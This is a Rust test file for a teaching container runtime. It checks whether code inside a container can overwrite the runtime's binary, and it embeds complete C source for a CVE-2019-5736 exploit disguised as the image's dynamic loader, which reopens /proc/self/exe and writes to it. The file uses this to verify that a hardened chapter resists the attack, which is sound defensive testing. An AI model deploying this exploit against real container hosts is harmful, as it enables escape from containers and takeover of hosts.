//! The way from a container to the runtime's own program, really taken.

use std::fs;
use std::process::Command;

use harness::{Lab, eventually, kernel, skip};
use tracer::{Event, Tracer};

/// CVE-2019-5736. Where the image should have the loader of dynamic programs, it has
/// this: executed in the runtime's place, it opens the runtime's file and becomes
/// `/attack`, a copy of itself, which writes as soon as nobody executes the file.
const ATTACK: &str = r#"
static long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return result;
}
enum { WRITE = 1, OPEN = 2, NANOSLEEP = 35, EXECVE = 59, EXIT = 60, FCNTL = 72, PRCTL = 157 };
enum { READ_ONLY = 0, WRITE_ONLY = 1, CREATE = 0100 | WRITE_ONLY, BUSY = -26, ROFS = -30 };

void _start(void) {
    char *none[1]; none[0] = 0;
    if (call(FCNTL, 3, 1, 0) < 0) {
        call(OPEN, (long)"/proc/self/exe", READ_ONLY, 0);  /* becomes descriptor 3 */
        call(PRCTL, 1, 0, 0);                              /* to outlive the runtime */
        call(EXECVE, (long)"/attack", (long)none, (long)none);
    }
    call(OPEN, (long)"/share/ready", CREATE, 0644);
    long fd = BUSY;
    for (int tries = 0; fd == BUSY && tries < 2000; tries++) {
        long pause[2]; pause[0] = 0; pause[1] = 10000000;
        call(NANOSLEEP, (long)pause, 0, 0);
        fd = call(OPEN, (long)"/proc/self/fd/3", WRITE_ONLY, 0);
    }
    if (fd >= 0) call(WRITE, fd, (long)"overwritten", 11);
    call(OPEN, (long)(fd >= 0 ? "/share/overwritten" :
                      fd == ROFS ? "/share/read-only" : "/share/other"), CREATE, 0644);
    call(EXIT, 0, 0, 0);
}
"#;

/// What becomes of the attack, and whether the runtime's program is still what it was.
fn attack_the_runtime(lab: &Lab, chapter: &str) -> (&'static str, bool) {
    let dir = lab.state_dir().join(chapter.replace(' ', "_"));
    let (root, share, victim) = (dir.join("root"), dir.join("share"), dir.join("lab"));
    fs::create_dir_all(&share).unwrap();
    let copied = Command::new("cp").arg("-a").arg(lab.image()).arg(&root).status().unwrap();
    assert!(copied.success());
    fs::create_dir_all(root.join("lib64")).unwrap();
    let (source, loader) = (dir.join("attack.c"), root.join("lib64/ld-linux-x86-64.so.2"));
    fs::write(&source, ATTACK).unwrap();
    let _ = fs::remove_file(&loader);
    let compiled = Command::new("cc")
        .args(["-nostdlib", "-static-pie", "-fPIE", "-O1", "-o"])
        .args([&loader, &source])
        .status();
    assert!(compiled.expect("a C compiler, as cargo needs one").success());
    fs::copy(&loader, root.join("attack")).unwrap();
    let run = lab.program("lab");
    fs::copy(run.get_program(), &victim).unwrap();
    let original = fs::read(&victim).unwrap();

    let mut outer = Command::new(&victim);
    outer.envs(run.get_envs().filter_map(|(key, value)| Some((key, value?))));
    outer.arg("run").args(chapter.split(' '));
    outer.args(["--network", "none", "--view", "none", "--rootfs"]).arg(&root);
    outer.arg("-v").arg(format!("{}:/share", share.display()));
    let mut runtime = outer.args(["--", "/proc/self/exe"]).spawn().expect("it starts");
    eventually("the attack begins", || share.join("ready").exists());
    let pid = kernel::child_of(runtime.id().cast_signed()).expect("the container");
    runtime.kill().unwrap();
    runtime.wait().unwrap();
    let verdict = kernel::wait_for("the attack ends", || {
        let names = ["overwritten", "read-only", "other"];
        names.into_iter().find(|name| share.join(name).exists())
    });
    eventually("the container ends", || !kernel::is_alive(pid));
    lab.lab(["clean"]).ok();
    (verdict, fs::read(&victim).unwrap() == original)
}

#[test]
fn the_container_cannot_overwrite_the_runtime() {
    let Some(lab) = Lab::as_root() else { return };
    let program = lab.program("lab");
    let mut loader = Command::new("grep");
    loader.args(["-c", "-a", "/lib64/ld-linux-x86-64.so.2"]);
    let loader = loader.arg(program.get_program()).output().expect("grep starts");
    if !cfg!(target_arch = "x86_64") || !loader.status.success() {
        return skip::skip("the attack is for programs with x86_64's loader");
    }
    assert_eq!(attack_the_runtime(&lab, "chapter-07"), ("overwritten", false));
    assert_eq!(attack_the_runtime(&lab, "chapter-09 --userns host"), ("read-only", true));
}

#[test]
fn the_runtime_is_started_again_before_it_looks_at_anything() {
    let Some(lab) = Lab::as_root() else { return };
    let mut run = lab.program("lab");
    run.args(["run", "chapter-09", "--network", "none", "--view", "none", "--", "true"]);
    let mut tracer = Tracer::start(run).expect("it starts");
    let mut calls = Vec::new();
    while let Some((pid, event)) = tracer.next_event().expect("waitpid") {
        match event {
            Event::Entered(call) if pid == tracer.first() => calls.push(call.number),
            _ => {}
        }
    }
    let at = |number| calls.iter().position(|call| *call == number);
    let listed = at(libc::SYS_getdents64).expect("what killed runs have left is looked for");
    assert!(at(libc::SYS_execveat).expect("it starts again") < listed);
}
